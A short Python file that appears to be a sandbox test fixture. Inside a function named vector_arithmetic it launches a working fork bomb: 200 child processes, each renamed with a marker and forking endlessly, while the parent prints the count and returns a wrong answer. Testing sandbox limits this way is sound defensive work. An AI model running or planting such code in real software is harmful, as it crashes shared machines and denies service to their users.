"""A fork bomb: every child forks forever; the parent counts how many of its 200 forks succeeded, prints
the count and answers wrongly (so that the report shows what it printed)."""

import ctypes
import os
import time

MARKER = "@MARKER@"
ATTEMPTS = 200
DONE = []


def bomb():
    ctypes.CDLL(None).prctl(15, MARKER.encode(), 0, 0, 0)  # PR_SET_NAME
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.2)


def vector_arithmetic(a, b):
    if not DONE:
        forks = 0
        for _ in range(ATTEMPTS):
            try:
                pid = os.fork()
            except OSError:
                continue
            if pid == 0:
                bomb()
            forks += 1
        DONE.append(forks)
        print(f"forks: {forks}")
    return a, a, a, a
